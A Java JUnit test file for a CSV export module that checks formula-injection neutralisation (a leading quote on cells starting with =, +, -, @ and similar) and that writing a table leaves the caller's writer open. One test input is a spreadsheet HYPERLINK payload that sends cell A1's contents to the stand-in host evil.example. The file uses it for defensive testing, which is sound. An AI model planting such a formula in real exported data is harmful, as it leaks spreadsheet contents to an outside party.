package org.consensusledger.query.opendata;

import org.consensusledger.events.StakeholderGroup;
import org.junit.jupiter.api.Test;

import java.io.StringWriter;
import java.time.Instant;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The CSV tables: a text that a spreadsheet would take for a formula is neutralised (a quote in front), reversibly,
 * numbers never are; and writing a table leaves the writer it was given open (it belongs to the caller).
 */
class DatasetsTest {

    @Test
    void aTextThatASpreadsheetWouldTakeForAFormulaGetsAQuoteInFrontAndNumbersAreLeftAlone() {
        for (String first : List.of("=", "+", "-", "@", "\t", "\r", "'")) {
            assertThat(Datasets.row(first + "1+1")).as(first).containsExactly("'" + first + "1+1");
        }
        assertThat(Datasets.row("=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Click\")"))
                .containsExactly("'=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Click\")");
        assertThat(Datasets.row("a = b", "x-1", "", null, -3, -3L, 2, StakeholderGroup.CIVIL_SOCIETY,
                                Instant.parse("2026-03-04T09:30:00Z")))
                .containsExactly("a = b", "x-1", "", "", "-3", "-3", "2", "civil_society", "2026-03-04T09:30:00Z");
        // Reversible: removing one leading quote gives back exactly what was recorded, whatever it was.
        for (String recorded : List.of("=1", "'=1", "''", "'", "plain", "-3 degrees")) {
            String cell = (String) Datasets.row(recorded).get(0);
            assertThat(cell.startsWith("'") ? cell.substring(1) : cell).isEqualTo(recorded);
        }
    }

    @Test
    void writingATableLeavesTheWriterOpen() {
        class Recording extends StringWriter {
            boolean closed;

            @Override
            public void close() {
                closed = true;
            }
        }
        Recording out = new Recording();
        Snapshot.Stamp stamp = new Snapshot.Stamp(3, 2, "origin", "root", "origin\n3\nroot\n", Instant.EPOCH);
        Snapshot snapshot = new Snapshot(stamp, List.of(new Snapshot.Organisation(
                "o1", "@Org", StakeholderGroup.ACADEMIA, "FR", Instant.EPOCH)), List.of(), List.of(), List.of(),
                                         List.of(), List.of());
        Datasets.ORGANISATIONS.write(snapshot, out);
        assertThat(out.closed).isFalse();
        assertThat(out.toString()).isEqualTo("organisation_id,name,stakeholder_group,country,registered_at\r\n"
                                                     + "o1,'@Org,academia,FR,1970-01-01T00:00:00Z\r\n");
    }
}
